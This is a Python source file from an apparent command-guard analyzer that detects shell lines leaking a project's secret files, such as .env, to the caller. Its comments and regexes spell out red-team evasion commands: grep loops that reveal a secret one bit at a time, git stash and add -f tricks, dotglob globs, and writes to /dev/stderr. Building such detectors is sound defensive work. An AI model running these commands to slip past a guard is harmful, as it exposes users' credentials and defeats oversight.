    r"/dev/+(?:\.{0,2}/+|dev/+)*(?:std|tty|fd/|pts/|console)|/proc/+[^\s/]+/+(?:[^\s/]+/+)*fd\b"
)


def _terminal_file(path: str) -> bool:
    """Whether writing to ``path`` writes to the terminal (the caller reads it) or a descriptor."""
    if "dev" not in path and "proc" not in path:
        return False
    normal = posixpath.normpath(path).lstrip("/")
    while normal.startswith("../"):
        normal = normal[3:]
    if normal.startswith("dev/") or normal.startswith("proc/"):
        return _TERMINAL_PATH.match(normal) is not None
    return False


# Commands of a compound fed by a pipe that read no input (`tar cf - . | (cd dst && tar xf -)`)
_UNREAD_INPUT = frozenset({"cd", "pushd", "popd", ":", "true", "false", "export", "set", "unset", "local", "sleep"})
_UNREAD_INPUT |= frozenset({"exit", "return", "shift", "mkdir", "echo", "printf", "test", "[", "umask", "trap"})


_LOOPS = frozenset({"for", "while", "until", "select"})


def _asked_again(command: Command, commands: list[Command]) -> bool:
    """Whether a search printing names, counts or only its status is one of several on the line, or runs in a
    loop: each answer one more piece of what the files hold (`for c in a b …; do grep -rq "KEY=$s$c" . && …`
    spells the secret out, redt37)."""
    if not _LOOPS.isdisjoint(command.via):
        return True
    last = command.argv[-1]  # (the same folder searched again for another pattern)
    return any(c.name == command.name and c.argv[-1] == last and c.argv != command.argv for c in commands)


# Words only the run knows (`"K=$c"`, `` `cat p` ``): a pattern so may be any
_DYNAMIC: Final = ("$", "`")
_COMPARERS: Final = frozenset({"diff", "gdiff", "colordiff"})  # (tree printers comparing two trees)
_PATTERN_OPTIONS: Final = frozenset({"e", "regexp"})


def quiet_searches(commands: list[Command]) -> list[int | None]:
    """The quiet tree searches of a line (a search of _TREE_PRINTERS walking a folder's files and printing
    names, counts or only its status: `grep -rq K .`, `grep -rl K src`, `rg -c --hidden K`, `ag -l -u K`), as
    the digest of what each asks (quiet_search_key). Set tests per command (SessionMemory.terminal_wrote)."""
    found: list[int | None] = []
    for command in commands:
        if command.name in _TREE_PRINTERS:
            walks, quiet = _TREE_PRINTERS[command.name]
            present = _tree_flags(command)
            if (not walks or not present.isdisjoint(walks)) and not present.isdisjoint(quiet):
                found.append(quiet_search_key(command))
    return found


def quiet_search_key(command: Command) -> int | None:
    """A digest of what a quiet search asks: its program, flags, option values and pattern as the program reads
    them (`grep -r -q -e X` and `grep -rqe X` are one; the first operand is the pattern unless -e, -f, --regexp or
    --file gives one), not the folders it reads (a copy of the tree, `cp -r . ../c1`, or a link to it, is the
    same question asked elsewhere). A pattern read from a file (`-f FILE`: its text may change between calls) or
    holding a word only the run knows (`"K=$c"`) asks something new every time it runs (None); so does a recursive
    diff (`diff -rq . ../guess`: the other tree's files are the question, and may change between calls)."""
    shaped = _shaped(command)
    if (
        command.name in _COMPARERS
        or shaped.option_values("f")
        or shaped.option_values("file")
        or any(c in word for word in command.argv for c in _DYNAMIC)
    ):
        return None
    pattern = shaped.option_values("e")  # (with -e or --regexp, every operand is a folder)
    if not pattern and not shaped.option_values("regexp"):
        pattern = shaped.positionals[:1]
    values = tuple(sorted((k, tuple(v)) for k, v in (shaped.values or {}).items() if k not in _PATTERN_OPTIONS))
    flags = tuple(sorted((shaped.short | shaped.long) - _PATTERN_OPTIONS))
    return hash((command.name, flags, values, tuple(pattern)))


def _asked_before(command: Command, session: SessionView) -> bool:
    """Whether a quiet tree search asks something the session's earlier quiet tree searches did not (another
    pattern, other options: SessionFiles.searched), once one ran (quiet42: one call a pattern, `grep -rq
    'PASSWORD=a' . && echo y`, then `=b`, ..., spells the secret out a bit a call). Whatever folder it reads:
    a copy of the tree or a link to it, made on the line or earlier, holds the same secret. The same search
    again tells nothing new."""
    key = quiet_search_key(command)
    return key is None or not session.searched(key)


def _archives_to(command: Command) -> str | None:
    """Where an archiver writes the archive it creates: "-" for its output (`tar c .`, `tar cf - .`, `zip -r
    - .`, `7z a -so x .`, `cpio -o`, `pax -w`), its file, or None when it creates none (`tar xf x.tar`)."""
    name = command.name
    shaped = _shaped(command)
    flags = shaped.short | shaped.long
    if name in ("tar", "gtar", "bsdtar", "pax"):
        creates = ("w" in flags) if name == "pax" else not flags.isdisjoint({"c", "create"})
        files = shaped.option_values("f")
        if not creates:
            return None
        if not files or any(f == "-" or _terminal_file(f) for f in files):
            return "-"
        return files[0]
    if name == "zip":
        words = [w for w in command.argv[1:] if w == "-" or not w.startswith("-")]
        return words[0] if words else None
    if name in ("7z", "7za", "7zz"):  # `7z a -so x .` creates; `7z x -so x.zip` prints what it extracts
        creates = _shaped(command).positionals[:1] in (["a"], ["u"])
        return "-" if creates and "so" in options_of(command.name, command.argv) else None
    if name in ("cpio", "bsdcpio"):
        if flags.isdisjoint({"o", "create"}):
            return None
        files = shaped.option_values("O") + shaped.option_values("F") + shaped.option_values("file")
        return files[0] if files else "-"
    if name == "afio":
        return "-" if "o" in flags and "-" in command.argv else None
    return None


def _keeps_output(command: Command) -> bool:
    """Whether ``command`` keeps what it reads from the caller: it extracts it to disk (`tar x`, `cpio -i`),
    writes it to a file (`dd of=`, `gzip x.tar`), or counts or sums it."""
    name = command.name
    if (name in _COUNTERS or name == "dd" or name in COMPRESSORS) and any(command.dynamic[1:]):
        return False  # a word only the run knows (`| wc -l $(cat)`: the pipe's lines, printed as names it cannot open)
    if name in _COUNTERS:
        # not one reading names from it (`wc --files0-from=-`, `sha256sum -c`): a name it cannot open is printed
        if name == "wc":  # (`--f=-`: getopt_long's abbreviation, redt37)
            return not any(
                w.startswith("--") and abbreviates(w[2:].partition("=")[0], ("files0-from",)) for w in command.argv[1:]
            )
        return options_of(command.name, command.argv).isdisjoint({"c", "check"})
    if name == "dd":
        # `dd if=x.tgz of=y.bin`: to a file (not `of=/dev/stderr`)
        return any(w.startswith("of=") and not _terminal_file(w[3:]) for w in command.argv[1:])
    if name in COMPRESSORS:
        # `gzip x.tar` writes x.tar.gz; `gzip -c`, `--stdout`, `zcat`-like `-dc` print, and so does one naming no
        # file: it filters its input to its output (`| xz | xz -d`, redt37)
        return _compresses_files(command.argv) and options_of(command.name, command.argv).isdisjoint(
            {"c", "stdout", "to-stdout"}
        )
    if name in ("tar", "gtar", "bsdtar", "cpio", "bsdcpio", "pax"):
        shaped = _shaped(command)
        flags = shaped.short | shaped.long
        extracts = not flags.isdisjoint({"x", "extract", "get", "i", "p", "pass-through"}) or (
            name == "pax" and "r" in flags
        )
        return extracts and flags.isdisjoint({"O", "to-stdout", "to-command", "t", "list"})
    return False


_COMPRESSOR_VALUES = frozenset("SoTMFCDBL")  # short options of compressors taking a value (`-S .z`, `-T 0`, `-o F`)


def _compresses_files(argv: tuple[str, ...]) -> bool:
    """Whether a compressor names a file to work on (not `-`, not an option's value): else it filters its input."""
    skip = False
    for i, word in enumerate(argv[1:], 1):
        if skip:
            skip = False
        elif word == "--":
            return any(w != "-" for w in argv[i + 1 :])
        elif word.startswith("-") and word != "-":
            skip = not word.startswith("--") and word[-1] in _COMPRESSOR_VALUES
            skip = skip or (word.startswith("--") and "=" not in word and word[2:] in ("suffix", "output", "threads"))
        elif word != "-":
            return True
    return False


def _git_prints_files(command: Command) -> bool:
    """Whether git searches or diffs files outside its index, which a `.env` is (`git grep --no-index X`), or
    copies the files its ignore rules keep out into its index or a stash (_GitCopy.ignored: `git add -f .`),
    where any later `git diff --cached` prints them: judged as a print on its own, with no printer on the line."""
    shaped = _shaped(command)
    verb = shaped.positionals[:1]
    flags = shaped.short | shaped.long
    # (xfail40) a copy's `-q` quiets its messages, not the copy (`git stash -qa`, `git add -qf .`)
    copy = _git_copies(command)
    if copy is not None:
        return copy.ignored
    if not flags.isdisjoint(_GIT_QUIET) and flags.isdisjoint(("p", "u", "patch", "patch-with-stat")):
        return False  # (`--stat -p` prints the patch too)
    if verb == ["grep"]:
        return "no-index" in flags or {"untracked", "no-exclude-standard"} <= flags
    return verb == ["diff"] and "no-index" in flags


# git's verbs printing the text of what its index or a commit holds (after `git add -A`: every file not ignored,
# a `.env` too), and those stashing or staging a tree's files that git does not track
# (adv37) and the plumbing, searches, archives and diff tools that print the same files (`git diff-index -p
# --cached HEAD`, `git grep --cached K`, `git archive HEAD`, `git difftool -x cat --cached`)
_GIT_PRINTS_STAGED = frozenset(
    {"diff", "show", "log", "whatchanged", "format-patch", "diff-index", "diff-tree", "grep", "archive", "difftool"}
)
_GIT_UNTRACKED = frozenset({"u", "a", "include-untracked", "all", "only-untracked"})


def _git_staged_trees(command: Command, commands: list[Command]) -> list[str]:
    """The folders (or files) whose files git, as ``command``, prints from its index, a commit or a stash, where
    an earlier stage of the line put the tree's untracked files there (`git add -A && git diff --cached`, `git
    stash -u && git stash show -p -u`: a `.env` not ignored), or a stash's untracked files (`git stash show -p
    --include-untracked`: the tree's, as stashed by an earlier call). Gitignore is not read (open37)."""
    if "stash" not in command.argv:  # (cheap first: no stash shown, and no git stage before it on the line)
        for earlier in commands:
            if earlier is command:
                return []
            if earlier.name == "git":
                break
        else:
            return []
    shaped = _shaped(command)
    verb = shaped.positionals[:2]
    flags = shaped.short | shaped.long
    if verb[:1] == ["stash"] and verb[1:] == ["show"]:
        if flags.isdisjoint(("p", "patch")):
            return []  # a summary of what changed (`--stat` unless told `-p`)
        if not flags.isdisjoint(_GIT_UNTRACKED):
            return ["."]
    elif verb[:1] and verb[0] in _GIT_PRINTS_STAGED:
        if verb[0] in ("log", "whatchanged", "diff-index", "diff-tree") and flags.isdisjoint(("p", "u", "patch")):
            return []
        if (verb[0] == "format-patch" and "stdout" not in flags) or (verb[0] == "archive" and "o" in flags):
            return []
        if not flags.isdisjoint(_GIT_QUIET) and flags.isdisjoint(("p", "patch", "patch-with-stat")):
            return []
        if verb[0] == "diff" and "no-index" in flags:
            return []
    else:
        return []
    staged: list[str] = []
    for earlier in commands:
        if earlier is command:
            break
        if earlier.name == "git" and (copy := _git_copies(earlier)) is not None:
            staged.extend(copy.untracked)
    return staged


class _GitCopy(Record):
    """What `git add` or `git stash [push|save]` copies from the working tree into git's index or a stash: the
    one reading of both verbs, for the two ways a copy is printed. The files its ignore rules keep out
    (``ignored``: a `.env`) are a print on their own (_git_prints_files: any later call's `git diff --cached`
    prints them); the untracked files it copies (``untracked``: every file of the tree for `git add -A`, which
    is ordinary) only when a later stage of the line prints the index or the stash (_git_staged_trees)."""

    __slots__ = ("untracked", "ignored", "whole")  # noqa: RUF023  (the fields' order)

    # where it copies files git does not track from: its pathspecs (a magic one, `:/`, as `.`), or `.` for the
    # tree (`git add -A`, `git stash -u`); none for `git add -u` or a stash of the tracked files only
    untracked: list[str]
    ignored: bool  # the files its ignore rules keep out too (`git add -f`, `git stash -a`)
    # it names no path and copies from the tree whole (`git add -Af`, `git add -f --no-ignore-removal`, `git stash
    # -a`, `git stash save -a MESSAGE`), or names only magic pathspecs (`git add -f :/`, read as the top by
    # _pathspecs): judged with `.` named (_git_names_no_path; else its words are judged as its paths)
    whole: bool

    def __init__(self, untracked: list[str], ignored: bool, whole: bool) -> None:
        self.untracked = untracked
        self.ignored = ignored
        self.whole = whole


_GIT_STASH_UNTRACKED = _GIT_UNTRACKED - {"only-untracked"}  # `git stash -u`, `-a`: the untracked files stashed


def _git_copies(command: Command) -> _GitCopy | None:
    """What a git command copies into its index or a stash (see _GitCopy); None for another verb (`git stash
    show`, `git stash -u foo`, which git refuses)."""
    shaped = _shaped(command)
    verb = shaped.positionals
    flags = shaped.short | shaped.long
    if verb[:1] == ["add"]:
        words = verb[1:]
        untracked: list[str] = []
        if flags.isdisjoint(("u", "update")):  # (else the tracked files only)
            untracked = _pathspecs(words, flags) or (
                ["."] if not flags.isdisjoint(("A", "all", "no-ignore-removal")) else []
            )
        whole = (not words and not flags.isdisjoint(("A", "all", "u", "update", "no-ignore-removal"))) or (
            bool(words) and all(w[:1] == ":" for w in words)
        )
        return _GitCopy(untracked, not flags.isdisjoint(("f", "force")), whole)
    if verb[:2] in (["stash"], ["stash", "push"], ["stash", "save"]):
        # (a `stash save`'s words are its message: it stashes the tree whole)
        words = verb[2:] if verb[1:2] == ["push"] else []
        untracked = []
        if not flags.isdisjoint(_GIT_STASH_UNTRACKED):
            untracked = _pathspecs(words, flags) or ["."]
        return _GitCopy(untracked, not flags.isdisjoint(("a", "all")), not words or all(w[:1] == ":" for w in words))
    return None


def _pathspecs(words: list[str], flags: frozenset[str] | set[str] = frozenset()) -> list[str]:
    """git's pathspecs as the folders they name: a magic one (`:/`, `:(glob)*`) as the tree's top, `.`; (adv39) a
    glob git matches itself (`'*'`, `'src/*.py'`: a dot-file too) as the folder before its first wildcard; those
    read from a file (`--pathspec-from-file`) as the tree's top."""
    if "pathspec-from-file" in flags:
        return ["."]
    found = []
    for p in words:
        if p[:1] == ":":
            p = "."  # noqa: PLW2901
        elif any(c in p for c in "*?["):
            head = p[: min(p.find(c) for c in "*?[" if c in p)]
            p = head.rpartition("/")[0] or "."  # noqa: PLW2901
        found.append(p)
    return found


def _lists_names(command: Command) -> bool:
    """Whether an archiver only lists an archive's names (`tar tf x.tar`, `unzip -l x.zip`, `7z l x.7z`)."""
    name = command.name
    if name not in _ARCHIVERS and name != "unzip":
        return False
    shaped = _shaped(command)
    flags = shaped.short | shaped.long
    if name == "unzip":
        return not flags.isdisjoint({"l", "Z", "v", "t"}) and "p" not in flags and "c" not in flags
    if name in ("7z", "7za", "7zz"):
        return shaped.positionals[:1] == ["l"]
    return not flags.isdisjoint({"t", "list"}) and flags.isdisjoint({"x", "extract", "get", "O", "to-stdout"})


def _reaches_caller(
    command: Command, commands: list[Command], text: str, depth: int, kept: set[str] | None = None
) -> bool:
    """Whether what ``command`` prints reaches the caller: through the stages it feeds (`| base64`, `| tee
    x`) unless one keeps it (`| tar x -C dst`, `| wc -c`) or the last writes it to a file (`> hits.txt`, `|
    gzip > x.tgz`; a file a later call prints is the session's to remember: _sent_archives). The files
    written so are added to ``kept`` (a later stage of the line printing one: _prints_archive)."""
    if command.name == "tee" and any(_terminal_file(w) for w in command.argv[1:]):
        return True  # `| tee /dev/stderr | wc -l`: a copy to the terminal
    if any(op == ">&" and target not in ("1", "-") for op, target in command.redirects):
        return True  # `grep -r KEY . >&2 | wc -l`: its output dup'd to the terminal's (`2>&1` reads as target 1)
    if depth and command.code is not None and _CODE_ELSEWHERE.search(command.code) is not None:
        return True  # `| perl -ne 'print STDERR $_' | wc -l`: an inline program writing past its output (redt37)
    if depth and command.name in _SCRIPT_WRITERS:
        # what a stream editor's script writes or pipes to itself (sed's `w /dev/stderr`, awk's `print | "cat
        # >&2"`: a `tee` or a command of its own), whatever its output's redirection (redt37)
        for own in commands:
            if own.via[-1:] == (command.name,) and own is not command and own.name not in _UNREAD_INPUT:
                if own.name != "tee" and _reaches_caller(own, commands, text, depth + 1, kept):
                    return True
                if own.name == "tee" and any(_terminal_file(w) for w in own.argv[1:]):
                    return True
    if _output_to_file(command, text):
        if any(op in _WRITES and ("$" in target or "`" in target) for op, target in command.redirects):
            return True  # `> "$(mktemp)"`, `> $f` with f unknown: a name only the run knows, which no later call
            # can be followed to by name (the session remembers files by name; open37)
        if kept is not None:
            kept.update(t for op, t in command.redirects if op in (">", ">>", ">|", "&>", "&>>") and t)
        return False
    if any(command.name not in c.fed_by for c in commands if c.name == command.name and c is not command):
        return True  # another stage of its name: which one feeds what is not known by name
    readers = [c for c in commands if command.name in c.fed_by and c is not command and c.name not in _UNREAD_INPUT]
    # what a stage writes as its own (`awk '{print > "/dev/stderr"}'`, sed's `w /dev/stderr`: a `tee` of its own)
    readers += [c for c in commands if c.name == "tee" and c.via[-1:] == (command.name,) and c is not command]
    if command.name in _SCRIPT_WRITERS:
        readers += [c for c in commands if c.via[-1:] == (command.name,) and c is not command and c.name != "tee"]
    if not readers:
        return True
    if depth > 4:
        return True
    return any(
        not _keeps_output(c) and not _lists_names(c) and _reaches_caller(c, commands, text, depth + 1, kept)
        for c in readers
    )


_WRITES = frozenset({">", ">>", ">|", "&>", "&>>"})
_SCRIPT_WRITERS = frozenset({"awk", "gawk", "mawk", "nawk", "sed", "gsed"})
# An inline program writing elsewhere than its output: its error stream, a file or device it opens, a process
# or a connection it makes (`sys.stderr`, perl's `STDERR`/`warn`, `console.error`, `$stderr`, awk's `"/dev/…"`)
_CODE_ELSEWHERE = re.compile(
    r"(?i:stderr|/dev/|/proc/|\bwarn|\bdie\b|console\.|logging|syslog|\btty|fileno|fdopen|os\.write|\bopen\b|"
    r"\bopen\(|system|popen|exec|spawn|subprocess|socket|eprint|print_err|fprintf|\bwrite\(\s*2|fd\s*=\s*2)"
)


def _output_to_file(command: Command, text: str) -> bool:
    """Whether ``command``'s output is written to a file or discarded: a redirection of its output (`> x`,
    `>> x`, `&> x`, `1> x`, `> /dev/null`) to no terminal or descriptor. The analyzer keeps no descriptor
    (`2> x` reads as `> x`), so the line's text must show the redirection with no other descriptor's number."""
    for op, target in command.redirects:
        if op in (">", ">>", ">|", "&>", "&>>") and target and not _terminal_file(target):
            quoted = "[\"']?"
            spelled = (
                r"(?:^|[\s;|&(){}])1?(?:>>?|>\||&>>?)\s*" + quoted + re.escape(target) + quoted + r"(?=[\s;|&()]|$)"
            )
            if re.search(spelled, text) is not None:
                return True
    return False


def _prints_archive(commands: list[Command], text: str, kept: set[str]) -> bool:
    """Whether a stage prints an archive a tree reader of the line wrote (`tar cf x.tar . && tar xOf x.tar`,
    `zip -qr x.zip . && unzip -p x.zip`; or one an earlier call wrote: _sent_archives made its writer), or
    a file a search printing a tree was written to (``kept``: `grep -r X . > o; cat o`)."""
    written: set[str] = set(kept)
    for command in commands:
        if command.name in _ARCHIVERS:
            archive = _archives_to(command)
            if archive is not None and archive != "-":
                written.add(archive)
    if not written:
        return False
    for command in commands:
        if command.name in _MOVERS:  # `grep -r X . > o; mv o p; cat p`: the file under its new name
            words = [w for w in command.argv[1:] if w[:1] not in ("", "-")]
            if len(words) > 1 and any(w in written for w in words[:-1]):
                written.add(words[-1])
        elif command.name in COMPRESSORS or command.name in DECOMPRESSORS:
            if command.name in COMPRESSORS:
                written.update(out for w, out in compressed_files(command.name, command.argv) if w in written)
            for w in command.argv[1:]:  # decompressed in place: `tar czf x.tgz .; gzip -d x.tgz; cat x.tar`
                if w in written and "." in posixpath.basename(w):
                    stem = posixpath.splitext(w)[0]
                    written.update((stem, stem + ".tar"))
    names = {posixpath.basename(w) for w in written} - {"", ".", ".."}
    for command in commands:
        if not _prints_text((command.name, *command.argv[1:])) or _keeps_output(command) or _lists_names(command):
            continue
        if command.name == "tee" and command.via[-1:] and command.via[-1] in _ARCHIVERS:
            continue  # the archive's own write, as the analyzer reads it (`zip x.zip .` writes `tee x.zip`)
        if command.name in _ARCHIVERS and _archives_to(command) is not None:
            continue  # its writer
        words = [file_operand(w) for w in command.argv[1:]] + [t for op, t in command.redirects if op == "<"]
        words += [w.partition("=")[2] for w in command.argv[1:] if "=" in w]  # `--file=x.tar`, `dd if=o`
        if command.code is not None:  # `python3 -c 'print(open("o").read())'`: a path or a quoted name in its text
            code = command.code
            words += code_paths(code) + [n for n in names if f'"{n}"' in code or f"'{n}'" in code]
        if any(_names_written(w, written, names) for w in words) and _reaches_caller(command, commands, text, 0):
            return True
    return False


# A name filter only source files pass (`-name '*.py'`, `--include=*.go`): no secret's name ends so (a `.env`,
# a `.env.local`, `id_rsa`, `x.pem`, `credentials.json`); a config-like suffix may (`.env.yaml`).
_SOURCE_NAMES: Final = re.compile(
    r"\*\.(?:py|pyi|js|mjs|cjs|ts|tsx|jsx|go|rs|java|kt|c|h|cc|cpp|hpp|cs|rb|php|swift|scala|lua|pl|sh|md|rst"
    r"|html|css|scss|vue|svelte|sql|proto|ex|exs|erl|hs|ml|dart|r|m|mm|ipynb|tf|gradle|cmake)"
)


def _finds_secrets(command: Command) -> bool:
    """Whether a finder may hand a secret file to what it runs: not when a name test of an expression with
    no alternative or negation passes source files only (`find . -name '*.py' -exec grep x {} +`); not for
    fd without an option that makes it read hidden or ignored files (it skips a `.env`)."""
    argv = command.argv
    if command.name in ("fd", "fdfind"):
        return not _FD_HIDDEN.isdisjoint(options_of(command.name, argv))
    if not FIND_EITHER.isdisjoint(argv):
        return True
    for i, word in enumerate(argv[:-1]):
        # (`-iname '*.PY'` passes the names `-name '*.py'` does, and their case variants: source files too)
        glob = argv[i + 1].lower() if word == "-iname" else argv[i + 1]
        if word in ("-name", "-iname") and _SOURCE_NAMES.fullmatch(glob):
            return False
    return True


# (fp47) a working directory that is the home, the root or a system folder: find_delete_critical's hardline stays
_LISTING_CRITICAL_STARTS: Final = frozenset({"root", "system_top", "home_top"})


def listed_delete(command: Command, child: Command | None) -> tuple[tuple[str, ...], str, tuple[str, ...], str] | None:
    """(fp47, fp48) What a lister deleting what it lists (its program's `deletes_listed:`, programs.DeletesListed)
    lists: the listing's words, the `$(LISTING)` word an `rm -f` of it reads, its operands (start points) and
    the deleter its run runs ("" for an action such as `-delete`); None when it deletes no listing of that shape.
    ``child``: the command after it (the run of `-exec rm {} +`, which must be that run)."""
    program = command.program
    rule = program.deletes_listed if program is not None else None
    if rule is None or command.cwd is not None or any(command.dynamic):
        return None
    found = rule.listing(command.argv)
    if found is None:
        return None
    listing, deleter, operands = found
    if deleter and (child is None or child.name != deleter or child.via != (*command.via, command.name)):
        return None
    return listing, "$(" + " ".join(shlex.quote(w) for w in listing) + ")", operands, deleter


def _listed_deletes(commands: list[Command], view: View, programs: ProgramTable) -> list[Command]:
    """(fp47, fp48) A lister deleting, in the working tree, the entries it lists (`find . -name '*.pyc' -delete`,
    `find . -name '*.log' -exec rm {} +`: listed_delete) read as the `rm -f $(find . -name '*.pyc')` it is: the
    lister without its action, and rm of its listing (View.classify: the files it lists, each where it lands;
    past the listing's read limit a path only the run knows). Not when the listing names nothing for certain
    (paths.lists_tree: a folder outside the tree, a name test with an alternative, a recursive rm)."""
    out: list[Command] = []
    skip = -1
    for i, command in enumerate(commands):
        if i <= skip:
            continue
        found = listed_delete(command, commands[i + 1] if i + 1 < len(commands) else None)
        if found is None:
            out.append(command)
            continue
        listing, word, starts, deleter = found
        if (
            not lists_tree(word)
            or "computed_source" in view.classify(word)
            or any(not view.classify(start).isdisjoint(_LISTING_CRITICAL_STARTS) for start in starts)
        ):
            out.append(command)
            continue
        if deleter:  # (the run's rm: read as the rm of the listing; (fp49) each one its folders make, `fd -e log . src
            # -x rm` runs rm on `./*` and `src/*` in the run's reading)
            skip = i + 1
            runner = (*command.via, command.name)
            while skip + 1 < len(commands) and commands[skip + 1].name == deleter and commands[skip + 1].via == runner:
                skip += 1
        out.append(_through_link(command, listing, "listing", (False,) * len(listing)))
        rm = ("rm", "-f", word)
        out.append(
            Command(
                "rm",
                rm,
                (False, False, True),
                (),
                "",
                command.fed_by,
                command.via,
                None,
                command.depth,
                None,
                programs.get("rm"),
            )
        )
    return out


def _printed_folders(commands: list[Command]) -> list[Command]:
    """The commands, and git's search of files outside its index given no folder (`git grep --no-index KEY`)
    again with `.` named, and an inline program listing a folder and reading what it lists as the `find .
    DIRS -type f -exec cat {} +` it is, for the rows that test the folders a search prints (the other
    searches and finders: _implicit_folders)."""
    out = commands
    for command in commands:
        if command.name == "git" and _git_prints_files(command) and _git_names_no_path(command):
            argv, dynamic = (*command.argv, "."), (*command.dynamic, False)  # `git grep --no-index X .`
            out = [*out, _through_link(command, argv, "cwd", dynamic)]
        elif command.name == "git" and (staged := _git_staged_trees(command, commands)):
            # `git add -A && git diff --cached`: the staged tree printed, as `git diff --no-index` prints it
            argv = ("git", "diff", "--no-index", "/dev/null", *staged)
            out = [*out, _through_link(command, argv, "cwd", (False,) * len(argv))]
        elif command.code is not None and _walks_in_code(command.code):
            folders = [p for p in code_paths(command.code) if p.rstrip("/").rsplit("/", 1)[-1][:1] != "-"][:8]
            argv = ("find", ".", *folders, "-type", "f", "-exec", "cat", "{}", "+")
            fields = (command.redirects, command.stdin, command.fed_by, (*command.via, command.name))
            out = [*out, Command("find", argv, (False,) * len(argv), *fields, None, command.depth, command.cwd)]
    return out


# An inline program that lists a folder and reads the files it lists (`for f in os.listdir('.'): print(open(f)
# .read())`, `fs.readdirSync('.')` with `readFileSync`, PHP's `glob()` with `file_get_contents`): it prints
# a tree as `find DIR -type f -exec cat {} +` does, DIR the folders it names, or the working one.
_CODE_LISTS = re.compile(
    r"listdir|scandir|os\.walk|\bwalk\(|iterdir|r?glob\(|readdir|opendir|Dir\.(?:glob|entries|children|each_child|foreach)"
    r"|Dir\[|File::Find|<\*>|read_dir|WalkDir|walkdir|readDir|Bun\.Glob"
)
_CODE_READS = re.compile(
    r"open\(|read_text|read_bytes|readFile|file_get_contents|readfile|File\.read|IO\.read|slurp|fopen|read_to_string"
    r"|readTextFile|Bun\.file|fs::read|File\.open|\bcat\b|copyfile|<\$\w+>|<F>|\bsend|fetch|urlopen"
)


def _walks_in_code(code: str) -> bool:
    """Whether an inline program lists a folder and reads the files it lists."""
    return _CODE_LISTS.search(code) is not None and _CODE_READS.search(code) is not None


def _git_names_no_path(command: Command) -> bool:
    """Whether git's search, diff or copy of files outside its index reads the working tree whole: `git grep
    --no-index X` (_git_walks_cwd), `git add -Af`, `git stash -a` (_GitCopy.whole)."""
    copy = _git_copies(command)
    if copy is not None:
        return copy.whole
    return _git_walks_cwd(command)


def _git_walks_cwd(command: Command) -> bool:
    """Whether `git grep` names no path after its pattern (`-e P`/`-f F` patterns, or its first operand)."""
    shaped = _shaped(command)
    operands = shaped.positionals[1:]  # after `grep`
    given = [v for option in ("e", "f") for v in shaped.option_values(option)]
    if given:
        return all(p in given for p in operands)
    return len(operands) < 2


# A line that makes a glob match names starting with a dot: bash's `shopt -s dotglob` (`bash -O dotglob`),
# a GLOBIGNORE set (it turns dotglob on), zsh's `setopt globdots` / `*(D)`
# (redt37: zsh's option names are read with any case and underscores, `setopt GLOB_DOTS`; a glob qualifier
# holding D, `*(.D)`, `*(DN)`)
_DOT_GLOBS: Final = re.compile(r"dotglob|GLOBIGNORE|(?i:glob_*dots)|[*?\]]\([^()\s]*D[^()\s]*\)")
# the words of such a line spelled with quotes, escapes or an expansion (`shopt -s dot''glob`, `declare
# GLOB""IGNORE=x`, `shopt -s dot$e"glob"`: redt37), read from the analyzed words
_QUOTED_DOT_GLOBS: Final = re.compile(r"(?i:glob|ignore|dots)|\(D|shopt|setopt")


def _may_glob_dots(text: str) -> bool:
    """A gate of the two regexes above, each word they look for in any case, or a `(` (zsh's `*(D)`): a
    case-blind regex search costs ~2 us a line; most lines hold none of these words."""
    if "(" in text:
        return True
    lowered = text.lower()
    return "glob" in lowered or "ignore" in lowered or "dots" in lowered or "shopt" in lowered or "setopt" in lowered


def _dot_globs(commands: list[Command]) -> bool:
    """Whether a command's words make a glob match dot names, or a shopt/setopt word only the run knows does."""
    for command in commands:
        if command.name in ("shopt", "setopt") and any(command.dynamic[1:]):
            return True
        if any(_DOT_GLOBS.search(word) is not None for word in command.argv):
            return True
    return False


_ZSH_QUALIFIER = re.compile(r"(?<=[*?\]])\([^()\s]*\)$")  # zsh's `*(.D)`: the glob is `*`
_LEADING_GLOB = re.compile(r"(^|/)(?:\*|\?|\[[^]/]*\])")


def _with_dot_names(commands: list[Command]) -> list[Command]:
    """The commands, and each with a glob word again with each glob part that starts a name reading a leading
    dot too (`cat *` after `shopt -s dotglob` reads `.env`: `cat .*`; `?env` reads `.env`)."""
    out = commands
    for command in commands:
        words = command.argv[1:]
        if not any(_LEADING_GLOB.search(word) for word in words):
            continue
        dotted = tuple(_LEADING_GLOB.sub(_dotted, _ZSH_QUALIFIER.sub("", word)) for word in words)
        out = [*out, _through_link(command, (command.argv[0], *dotted), "dotglob")]
    return out


def _dotted(match: re.Match[str]) -> str:
    """A glob part starting a name, read with a leading dot: `*` as `.*`, `?` and `[…]` as `.`."""
    return match.group(1) + (".*" if match.group(0).endswith("*") else ".")


def _finder_run_argvs(command: Command) -> list[tuple[str, ...]]:
    """The command lines a finder runs on what it finds (`-exec sed p {} +`, `fd -X cat`), to its `;` or `+`."""
    argv = command.argv
    runs: list[tuple[str, ...]] = []
    for i, word in enumerate(argv[:-1]):
        option = word.lstrip("-")
        if word.startswith("-") and (option in _FINDER_RUNS or option.partition("=")[0] in _FINDER_RUNS):
            if "=" in word:
                runs.append((word.partition("=")[2],))
                continue
            end = next((j for j in range(i + 1, len(argv)) if argv[j] in (";", "+")), len(argv))
            run = argv[i + 1 : end]
            runs.append((command_name(run[0]), *run[1:]) if run and run[0] else ("",))
    return runs


def _prints_text(argv: tuple[str, ...]) -> bool:
    """Whether a command line prints the text of the files it names: not one printing names, sums or nothing
    (_NAME_ONLY), but for a stream editor not editing in place (`sed p x`), a copy to the output (`cp x
    /dev/stdout`) and git's diff of files outside its index (`git diff --no-index /dev/null x`)."""
    name = argv[0] if argv else ""
    if name not in _NAME_ONLY:
        return True
    words = argv[1:]
    if any(("dev" in w or "proc" in w) and (_TERMINAL_IN.search(w) is not None or _terminal_file(w)) for w in words):
        return True  # `cp x /dev//stdout`, `sed -i 'w /dev/stdout' x`, `dos2unix -n x /dev/stdout` (redt37)
    if name in _NAMES_READERS and any(w.startswith(_NAMES_READERS[name]) for w in words):
        return True  # `wc --files0-from=x`, `file -f x`: each line a name, printed when it cannot be opened (redt37)
    if name == "sed":
        return not any(w == "--in-place" or w.startswith("--in-place=") or re.match(r"-[a-zA-Z]*i", w) for w in words)
    return name == "git" and "--no-index" in words


# Name-only programs with an option reading the names from a file: a line of it that names no file is printed
# in an error (`wc: 'DB_PASSWORD=x': No such file or directory`), so they print the file's text.
_NAMES_READERS: Final[dict[str, tuple[str, ...]]] = {
    "wc": ("--f",),
    "du": ("--files0", "--fil"),
    "file": ("-f", "--files-from"),
}


